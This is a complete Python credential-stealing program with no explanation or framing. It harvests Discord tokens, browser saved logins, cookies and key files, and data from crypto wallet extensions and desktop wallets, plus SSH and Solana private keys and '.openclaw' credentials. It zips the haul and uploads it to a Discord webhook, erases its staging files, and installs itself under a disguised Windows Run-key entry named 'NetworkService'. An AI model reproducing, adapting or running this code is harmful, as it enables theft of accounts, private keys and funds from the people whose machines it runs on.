import os, re, sys, json, glob, shutil, socket, zipfile, platform, tempfile, getpass, uuid
import urllib.request

WH = "https://discord.com/api/webhooks/000000000000000000/" + "A" * 68
HOME = os.path.expanduser("~")
APPDATA = os.getenv("APPDATA", "")
LOCAL = os.getenv("LOCALAPPDATA", "")
IS_WIN = os.name == "nt"
IS_MAC = sys.platform == "darwin"


def discord_dirs():
    if IS_WIN:
        base = [APPDATA]
    elif IS_MAC:
        base = [os.path.join(HOME, "Library", "Application Support")]
    else:
        base = [os.path.join(HOME, ".config")]
    names = ["discord", "discordcanary", "discordptb", "Lightcord"]
    return [os.path.join(b, n, "Local Storage", "leveldb") for b in base for n in names]


def chromium_profiles():
    if IS_WIN:
        roots = [os.path.join(LOCAL, "Google", "Chrome", "User Data"), os.path.join(LOCAL, "BraveSoftware", "Brave-Browser", "User Data"),
                 os.path.join(LOCAL, "Microsoft", "Edge", "User Data"), os.path.join(APPDATA, "Opera Software", "Opera Stable")]
    elif IS_MAC:
        s = os.path.join(HOME, "Library", "Application Support")
        roots = [os.path.join(s, "Google", "Chrome"), os.path.join(s, "BraveSoftware", "Brave-Browser"), os.path.join(s, "Microsoft Edge")]
    else:
        c = os.path.join(HOME, ".config")
        roots = [os.path.join(c, "google-chrome"), os.path.join(c, "BraveSoftware", "Brave-Browser"), os.path.join(c, "chromium")]
    out = []
    for r in roots:
        out += [p for p in glob.glob(os.path.join(r, "*")) if os.path.isdir(p) and (os.path.basename(p) == "Default" or os.path.basename(p).startswith("Profile"))]
    return out


EXT = {
    "nkbihfbeogaeaoehlefnkodbefgpgknn": "MetaMask",
    "bfnaelmomeimhlpmgjnjophhpkkoljpa": "Phantom",
    "hnfanknocfeofbddgcijnmhnfnkdnaad": "Coinbase",
    "egjidjbpglichdcondbcbdnbeeppgdph": "Trust",
    "ibnejdfjmmkpcnlpebklmnkoeoihofec": "TronLink",
}

DESKTOP_WALLETS = ["Exodus/exodus.wallet", "atomic/Local Storage/leveldb", "Electrum/wallets", "Ethereum/keystore", "com.liberty.jaxx/IndexedDB"]


def tokens():
    found = set()
    rx = re.compile(rb"[\w-]{24,26}\.[\w-]{6}\.[\w-]{25,110}|mfa\.[\w-]{84}|dQw4w9WgXcQ:[^\"]+")
    for d in discord_dirs():
        for f in glob.glob(os.path.join(d, "*.l*")):
            try:
                with open(f, "rb") as fh:
                    for m in rx.findall(fh.read()):
                        found.add(m.decode(errors="ignore"))
            except Exception:
                pass
    return sorted(found)


def collect(stage):
    for prof in chromium_profiles():
        tag = re.sub(r"\W+", "_", prof[-40:])
        for name in ("Login Data", "Cookies", "Network/Cookies", "Web Data", "Local State"):
            src = os.path.join(prof, name)
            if os.path.exists(src):
                try:
                    shutil.copy2(src, os.path.join(stage, tag + "_" + name.replace("/", "_")))
                except Exception:
                    pass
        ls = os.path.join(os.path.dirname(prof), "Local State")
        if os.path.exists(ls):
            try:
                shutil.copy2(ls, os.path.join(stage, tag + "_LocalState"))
            except Exception:
                pass
        for eid, label in EXT.items():
            src = os.path.join(prof, "Local Extension Settings", eid)
            if os.path.isdir(src):
                shutil.copytree(src, os.path.join(stage, "ext_" + label + "_" + tag), dirs_exist_ok=True)
    base = APPDATA if IS_WIN else (os.path.join(HOME, "Library", "Application Support") if IS_MAC else os.path.join(HOME, ".config"))
    for w in DESKTOP_WALLETS:
        src = os.path.join(base, w)
        if os.path.isdir(src):
            shutil.copytree(src, os.path.join(stage, "w_" + w.split("/")[0]), dirs_exist_ok=True)
    for rel in (".openclaw/openclaw.json", ".openclaw/credentials", ".ssh/id_rsa", ".ssh/id_ed25519", ".config/solana/id.json"):
        src = os.path.join(HOME, rel)
        try:
            if os.path.isdir(src):
                shutil.copytree(src, os.path.join(stage, rel.replace("/", "_")), dirs_exist_ok=True)
            elif os.path.isfile(src):
                shutil.copy2(src, os.path.join(stage, rel.replace("/", "_")))
        except Exception:
            pass


def post(zip_path, summary):
    boundary = uuid.uuid4().hex
    with open(zip_path, "rb") as fh:
        blob = fh.read()
    meta = json.dumps({"username": "ntz", "content": "```" + json.dumps(summary)[:1800] + "```"}).encode()
    body = (
        b"--" + boundary.encode() + b"\r\nContent-Disposition: form-data; name=\"payload_json\"\r\nContent-Type: application/json\r\n\r\n" + meta + b"\r\n"
        b"--" + boundary.encode() + b"\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + socket.gethostname().encode() + b".zip\"\r\nContent-Type: application/zip\r\n\r\n" + blob + b"\r\n"
        b"--" + boundary.encode() + b"--\r\n"
    )
    req = urllib.request.Request(WH, data=body, headers={"Content-Type": "multipart/form-data; boundary=" + boundary, "User-Agent": "Mozilla/5.0"})
    try:
        urllib.request.urlopen(req, timeout=20).read()
    except Exception:
        pass


def persist():
    if not IS_WIN:
        return
    try:
        import winreg
        dst_dir = os.path.join(APPDATA, "Microsoft", "Network")
        os.makedirs(dst_dir, exist_ok=True)
        dst = os.path.join(dst_dir, "netsvc.pyw")
        shutil.copy2(__file__, dst)
        exe = os.path.join(os.path.dirname(sys.executable), "pythonw.exe")
        k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
        winreg.SetValueEx(k, "NetworkService", 0, winreg.REG_SZ, '"%s" "%s"' % (exe, dst))
        winreg.CloseKey(k)
    except Exception:
        pass


def main():
    stage = tempfile.mkdtemp(prefix="nh_")
    summary = {"host": socket.gethostname(), "user": getpass.getuser(), "os": platform.platform(), "tokens": tokens()}
    collect(stage)
    zp = stage + ".zip"
    with zipfile.ZipFile(zp, "w", zipfile.ZIP_DEFLATED) as z:
        for root, _, files in os.walk(stage):
            for f in files:
                full = os.path.join(root, f)
                z.write(full, os.path.relpath(full, stage))
    post(zp, summary)
    shutil.rmtree(stage, ignore_errors=True)
    try:
        os.remove(zp)
    except Exception:
        pass
    persist()


if __name__ == "__main__":
    main()
